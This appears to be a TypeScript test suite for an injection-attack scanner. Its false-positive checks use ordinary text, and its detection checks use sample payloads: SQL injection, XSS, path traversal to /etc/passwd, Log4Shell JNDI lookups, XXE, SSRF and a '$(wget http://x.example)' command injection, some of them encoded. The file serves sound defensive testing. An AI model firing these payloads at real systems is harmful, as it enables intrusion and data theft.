import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { families } from './families/index.ts'
import { scanner } from './scan.ts'

const scan = scanner(2)
const familyOf = (text: string, place?: Parameters<typeof scan>[1]) => scan(text, place)?.family

for (const text of [
  "O'Brien",
  "Sinead O'Connor and Conan O'Brien",
  "'tis the season; rock 'n' roll",
  'Please select a file from the list and update it',
  'The union selected a new leader; more than 50% voted',
  'AT&T, R&D, Q&A; Smith & Sons',
  'Run `npm install` and then `ls`',
  'a < b > c, 3 <4',
  'https://example.com/a/b?c=d&e=f#g',
  'C# or C++; which (and why)?',
  '{"a":["b","c"]}',
  '2026-01-02T03:04:05Z',
  'aGVsbG8gd29ybGQ=',
  'Łódź, Straße 5–7, 東京',
  'price: $5 (or $4.50 each)',
  '-----BEGIN CERTIFICATE-----',
]) {
  test(`what people write is no attack: ${text}`, () => assert.equal(scan(text), undefined))
}

test('each family is found by its own rules where it alone is looked for', () => {
  const samples: Readonly<Record<string, string>> = {
    sql: "x' or 1=1--",
    xss: '<svg onload=alert(1)>',
    php: '<?php echo 1;',
    command: '$(wget http://x.example)',
    path: '..\\..\\boot.ini',
    template: '${7*7}',
    ssi: '<!--#include virtual="/a" -->',
    xpath: "'] | //user/*[contains(*,'",
    nosql: '{"$where": "1"}',
    ldap: '*)(|(mail=*))',
    xxe: '<!ENTITY a SYSTEM "b">',
    jndi: '${${lower:j}ndi:ldap://x.example/a}',
    deserialisation: '_$$ND_FUNC$$_function(){ }()',
    ssrf: 'http://0x7f000001/',
  }
  for (const family of families) assert.equal(scanner(2, [family])(samples[family.name] ?? '')?.family, family.name)
})

test('commands that tell of a system need no argument between separators', () => {
  for (const text of ['&set&', 'x|ver', '127.0.0.1;dir;', 'a\nenv;', 'a && who'])
    assert.equal(familyOf(text), 'command', text)
})

test('a program’s name is no upload, though it may be a text', () => {
  assert.equal(familyOf('a.php', 'name'), 'php')
  assert.equal(familyOf('a.php'), undefined)
})

test('a higher level finds whatever a lower one does', () => {
  const levels = ([1, 2, 3, 4] as const).map(level => scanner(level))
  const marks = fc.constantFrom(
    ...'\'"`<>(){}[];|&$%\\/.-#*=! \n',
    ' or ',
    'select ',
    'script',
    '1',
    'a',
    'id',
    '..',
    'union ',
  )
  fc.assert(
    fc.property(fc.array(marks, { maxLength: 12 }), parts => {
      const found = levels.map(each => each(parts.join('')) !== undefined)
      for (const [i, here] of found.entries()) if (here) assert.ok(found.slice(i).every(Boolean), parts.join(''))
    }),
  )
})

test('an attack is found whatever letters stand around it, and however it is encoded once or twice', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '1 union select password from users',
    '../../../etc/passwd',
    '${jndi:ldap://x/a}',
  ]
  const percent = (text: string) =>
    [...Buffer.from(text)].map(byte => `%${byte.toString(16).padStart(2, '0')}`).join('')
  const codings: readonly ((text: string) => string)[] = [
    text => text,
    percent,
    encodeURIComponent,
    text => encodeURIComponent(encodeURIComponent(text)),
    text => percent(percent(text)),
    text => [...text].map(each => `&#${each.charCodeAt(0)};`).join(''),
    text => [...text].map(each => `\\u${each.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
    text => percent([...text].map(each => `&#x${each.charCodeAt(0).toString(16)};`).join('')),
  ]
  const words = fc.stringMatching(/^[a-z ]{0,40}$/)
  fc.assert(
    fc.property(
      fc.constantFrom(...attacks),
      fc.constantFrom(...codings),
      words,
      words,
      (attack, coded, before, behind) => assert.notEqual(scan(`${before} ${coded(attack)} ${behind}`), undefined),
    ),
  )
})

test('letters, digits and spaces alone are an attack only where they are words of SQL', () => {
  fc.assert(fc.property(fc.stringMatching(/^[b-z0-9]{0,60}$/), text => assert.equal(scan(text), undefined)))
  assert.equal(familyOf('1 union select password from users'), 'sql')
})

test('nothing that a text may hold makes it throw', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), text => void scan(text)))
})
